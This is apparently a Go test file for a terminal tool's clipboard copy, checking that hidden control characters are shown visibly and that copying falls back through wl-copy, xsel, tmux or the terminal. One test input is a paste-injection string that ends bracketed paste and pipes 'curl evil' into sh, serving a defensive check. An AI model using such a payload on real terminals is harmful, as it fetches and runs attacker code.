package cli

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/pflag"

	"docket/config"
	"docket/ui/view"
)

func TestACopyWritesControlCharactersOutAndSaysSo(t *testing.T) {
	for text, want := range map[string]struct{ copied, says string }{
		"V-00001\tLeeds\n":           {"V-00001\tLeeds\n", "Copied 1 cell, if the terminal takes it: it does not say."},
		"rm \u202e\u2066x\u200b":     {"rm <U+202E><U+2066>x<U+200B>", "Copied 1 cell; its hidden characters are written out, as on the screen, if the terminal takes it: it does not say."},
		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "Copied 1 cell; its hidden characters are written out, as on the screen, if the terminal takes it: it does not say."},
	} {
		out, err := os.OpenFile(filepath.Join(t.TempDir(), "out"), os.O_RDWR|os.O_CREATE, 0o600)
		if err != nil {
			t.Fatal(err)
		}
		defer out.Close()
		a := newSession(t.Context(), nil, os.Stdin, out, out, func(name string) string { return map[string]string{"SSH_TTY": "away"}[name] }) // no program of here
		said, _ := a.copy(text, "1 cell")().(view.Notify)
		raw, err := os.ReadFile(out.Name())
		if err != nil {
			t.Fatal(err)
		}
		sequence := strings.TrimSuffix(strings.TrimPrefix(string(raw), "\x1b]52;c;"), "\a")
		if copied, err := base64.StdEncoding.DecodeString(sequence); string(copied) != want.copied || err != nil || said.Text != want.says {
			t.Errorf("%q is copied as %q, %q (%v)", text, copied, said.Text, err)
		}
	}
}

func TestACopyGoesThroughTheSystemsProgramWhereThereIsOneElseThroughTheTerminal(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the programs are those of Linux")
	}
	dir := t.TempDir()
	program := func(name, script string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script+"\n"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	program("wl-copy", "cat > "+dir+"/wayland")
	program("xclip", "exit 1")
	program("xsel", "cat > "+dir+"/x; sleep 60 <&- >&- 2>&- &") // it goes on in the background
	program("tmux", "cat > "+dir+"/tmux")
	t.Setenv("PATH", dir+":/usr/bin:/bin")
	for _, c := range []struct {
		env, says, file string
	}{
		{"WAYLAND_DISPLAY DISPLAY", "Copied it (wl-copy).", "wayland"},
		{"DISPLAY", "Copied it (xsel).", "x"},
		{"TMUX SSH_TTY", "Copied it (tmux).", "tmux"},
		{"DISPLAY SSH_TTY", "Copied it, if the terminal takes it: it does not say.", "out"},
		{"", "Copied it, if the terminal takes it: it does not say.", "out"},
	} {
		out, err := os.Create(filepath.Join(dir, "out"))
		if err != nil {
			t.Fatal(err)
		}
		a := newSession(t.Context(), nil, os.Stdin, out, out, func(name string) string {
			if slices.Contains(strings.Fields(c.env), name) {
				return "1"
			}
			return ""
		})
		msg := a.copy("text", "it")()
		if work, is := msg.(view.Work); is {
			msg = work.Run()
		}
		if next, is := msg.(view.Next); is {
			msg = next()()
		}
		raw, err := os.ReadFile(filepath.Join(dir, c.file))
		if said, _ := msg.(view.Notify); said.Text != c.says || err != nil || len(raw) == 0 {
			t.Errorf("%s: %q, %s has %q, %v", c.env, said.Text, c.file, raw, err)
		}
		out.Close()
	}
	a := newSession(t.Context(), nil, os.Stdin, os.Stdout, os.Stdout, func(string) string { return "" })
	if said, _ := a.copy(strings.Repeat("x", mostCopied+1), "it")().(view.Notify); !strings.Contains(said.Text, "74,001 bytes of at most 74,000") {
		t.Errorf("too much: %q", said.Text)
	}
}

// A flag of all commands decides what the screen shows or may do, and is in the command that is copied, or it is about how
// the screen looks to one person, or about a recording.
func TestEveryFlagOfAllCommandsIsInACopiedCommandOrAPersonsOwn(t *testing.T) {
	own := strings.Fields("no-color ascii contrast linear theme record as-is replay")
	s := newSession(t.Context(), nil, os.Stdin, os.Stdout, os.Stdout, func(string) string { return "" })
	newRoot(s).PersistentFlags().VisitAll(func(f *pflag.Flag) {
		if err := f.Value.Set(map[string]string{"boolfunc": "true", "bool": "true", "string": "x"}[f.Value.Type()]); err != nil && f.Name != "theme" {
			t.Errorf("--%s: %v", f.Name, err)
		}
		s.set = &config.Settings{Profile: config.Profile{Name: s.flags.Profile}}
		if slices.Contains(calls(s), "--"+f.Name) == slices.Contains(own, f.Name) {
			t.Errorf("with --%s is copied %q", f.Name, calls(s))
		}
	})
	*s.flags.ReadOnly = false
	if slices.Contains(calls(s), "--read-only") {
		t.Error("--read-only=false is copied as --read-only")
	}
}
